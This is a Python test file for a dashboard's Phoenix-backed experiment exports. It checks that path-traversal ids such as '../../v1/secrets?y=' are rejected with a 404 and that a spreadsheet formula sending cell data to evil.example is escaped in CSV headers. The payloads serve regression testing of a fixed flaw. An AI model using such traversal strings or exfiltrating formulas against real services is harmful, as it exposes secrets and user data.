"""Experiment ids from a URL reach Phoenix only when Phoenix listed them, and then encoded.

A viewer once asked `/api/export/experiments/experiment-examples.csv?a=../users%3Fx%3D&b=…` and
the dashboard sent `GET /v1/users?x=/json` to Phoenix with its read key. The exports and the
experiments page now accept only ids among the listed experiments, and evaluator names (which
become CSV header cells) are escaped like every other cell.
"""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar
from urllib.parse import unquote, urlsplit

import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from app import create_app
from services.container import get_services
from settings import Settings

from .conftest import AuthActions

# The issue's own requests: a climb to Phoenix's user list and to its secrets.
CLIMB_TO_USERS = "../users?x="
CLIMB_TO_SECRETS = "../../v1/secrets?y="
EVIL_EVALUATOR = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
DATASET_ID = "RGF0YXNldDox"
LISTED = ("RXhwZXJpbWVudDox", "RXhwZXJpbWVudDoxMA==")
KINDS = ("experiment-deltas", "experiment-examples")


def compare_callback(client: FlaskClient, a: str | None, b: str | None) -> TestResponse:
    """Run the experiments page's compare callback as the browser does."""
    return client.post(
        "/_dash-update-component",
        json={
            "output": "experiments-compare.children",
            "outputs": {"id": "experiments-compare", "property": "children"},
            "inputs": [
                {"id": "experiments-a", "property": "value", "value": a},
                {"id": "experiments-b", "property": "value", "value": b},
            ],
            "changedPropIds": ["experiments-a.value"],
            "state": [],
        },
    )


def _runs(experiment_id: str) -> list[dict[str, Any]]:
    """Two evaluated runs; one evaluator's name is a spreadsheet formula."""
    return [
        {
            "example_id": f"ex-{n}",
            "input": {"q": f"question {n}"},
            "output": {"a": f"answer {n} of {experiment_id}"},
            "error": None,
            "latency_ms": 10.0 + n,
            "annotations": [
                {"name": EVIL_EVALUATOR, "score": 0.5 * n, "label": "=1+1"},
                {"name": "exact_match", "score": 1.0, "label": "yes"},
            ],
        }
        for n in range(2)
    ]


class _Catalog(BaseHTTPRequestHandler):
    """A stand-in Phoenix with one dataset and two experiments; it records every target."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(self.path)
        segments = [unquote(s) for s in urlsplit(self.path).path.split("/")]
        # Anything else gets an empty list, so a request off the catalog is seen, not a crash.
        body: Any = []
        if segments == ["", "v1", "datasets"]:
            body = {"data": [{"id": DATASET_ID, "name": "support"}], "next_cursor": None}
        elif segments == ["", "v1", "datasets", DATASET_ID, "experiments"]:
            experiments = [{"id": i, "name": f"run {n}"} for n, i in enumerate(LISTED)]
            body = {"data": experiments, "next_cursor": None}
        elif segments[:3] == ["", "v1", "experiments"] and segments[4:] == ["json"]:
            body = _runs(segments[3])
        payload = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args: object) -> None:
        """Stay quiet."""


@dataclass
class Signed:
    """An app on some Phoenix and a viewer signed in to it."""

    app: Any
    client: FlaskClient


def _viewer_on(settings: Settings, phoenix_url: str) -> Signed:
    """Build an app on the given Phoenix and sign a viewer in."""
    app = create_app(settings.with_overrides(phoenix_enabled=True, phoenix_url=phoenix_url))
    client = app.server.test_client()
    auth = AuthActions(app, client)
    auth.create(email="viewer@example.com", role="viewer")
    assert auth.login(email="viewer@example.com").status_code == 302
    return Signed(app, client)


@pytest.fixture
def on_catalog(settings: Settings) -> Iterator[Signed]:
    """A viewer on the stand-in Phoenix: it shows what the dashboard asks Phoenix for."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Catalog)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    signed = _viewer_on(settings, f"http://127.0.0.1:{server.server_address[1]}")
    _Catalog.seen.clear()
    try:
        yield signed
    finally:
        server.shutdown()
        get_services(signed.app.server).engine.dispose()


def _experiment_ids_asked(seen: list[str]) -> set[str]:
    """Return the experiment ids whose runs the dashboard asked Phoenix for."""
    asked = set()
    for target in seen:
        segments = urlsplit(target).path.split("/")
        assert segments[:2] == ["", "v1"], target
        assert not any(s in (".", "..") for s in segments), target
        if segments[2] == "experiments":
            assert len(segments) == 5 and segments[4] == "json", target
            asked.add(unquote(segments[3]))
        else:
            assert segments[2] == "datasets", target
    return asked


def test_unlisted_ids_get_a_clear_404_and_reach_no_phoenix_path(on_catalog: Signed) -> None:
    client = on_catalog.client
    for kind in KINDS:
        for a, b in ((CLIMB_TO_USERS, LISTED[1]), (LISTED[0], CLIMB_TO_SECRETS)):
            bad = a if b in LISTED else b
            response = client.get(
                f"/api/export/experiments/{kind}.csv", query_string={"a": a, "b": b}
            )
            response.get_data()  # read a streamed export whole: its request context ends
            assert response.status_code == 404, (kind, a, b)
            answer = response.get_json()
            assert isinstance(answer, dict)
            message = answer["message"]
            assert message == f"Experiment {bad!r} is not among Phoenix's experiments.", message
    assert _experiment_ids_asked(_Catalog.seen) <= set(LISTED)


def test_the_compare_callback_refuses_unlisted_ids_without_asking_phoenix(
    on_catalog: Signed,
) -> None:
    response = compare_callback(on_catalog.client, CLIMB_TO_SECRETS, LISTED[1])
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    shown = json.dumps(response.get_json())  # Dash writes "/" as \u002f
    assert f"Experiment {CLIMB_TO_SECRETS!r} is not among Phoenix's experiments." in shown
    assert _experiment_ids_asked(_Catalog.seen) <= set(LISTED)
    listed = json.dumps(compare_callback(on_catalog.client, *LISTED).get_json())
    assert "experiments-deltas" in listed and "is not among" not in listed


def test_evaluator_names_in_the_header_are_escaped(on_catalog: Signed) -> None:
    query = {"a": LISTED[0], "b": LISTED[1]}
    response = on_catalog.client.get(
        "/api/export/experiments/experiment-examples.csv", query_string=query
    )
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    header, *rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert f"'{EVIL_EVALUATOR} A" in header and f"'{EVIL_EVALUATOR} B" in header, header
    assert not [cell for cell in header if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert len(rows) == 2
    # Both listed ids were asked for, encoded: the padded one as %3D%3D.
    assert _experiment_ids_asked(_Catalog.seen) == set(LISTED)
    assert any("RXhwZXJpbWVudDoxMA%3D%3D" in target for target in _Catalog.seen)


@pytest.mark.integration
def test_real_phoenix_listed_pairs_export_and_unlisted_ids_are_named(
    settings: Settings, phoenix_server, demo_loaded
) -> None:
    signed = _viewer_on(settings, phoenix_server.url)
    try:
        first, second = demo_loaded.experiment_ids[:2]
        url = "/api/export/experiments/experiment-examples.csv"
        listed = signed.client.get(url, query_string={"a": first, "b": second})
        assert listed.status_code == 200
        header = next(csv.reader(io.StringIO(listed.get_data(as_text=True), newline="")))
        assert "exact_match A" in header and "exact_match B" in header, header
        for a, b in ((CLIMB_TO_USERS, second), (first, CLIMB_TO_SECRETS)):
            bad = a if b == second else b
            refused = signed.client.get(url, query_string={"a": a, "b": b})
            refused.get_data()  # read a streamed export whole: its request context ends
            assert refused.status_code == 404, refused.get_data(as_text=True)[:500]
            answer = refused.get_json()
            assert isinstance(answer, dict)
            assert answer["message"] == f"Experiment {bad!r} is not among Phoenix's experiments."
        shown = json.dumps(compare_callback(signed.client, CLIMB_TO_SECRETS, second).get_json())
        assert f"Experiment {CLIMB_TO_SECRETS!r} is not among Phoenix's experiments." in shown
    finally:
        get_services(signed.app.server).engine.dispose()
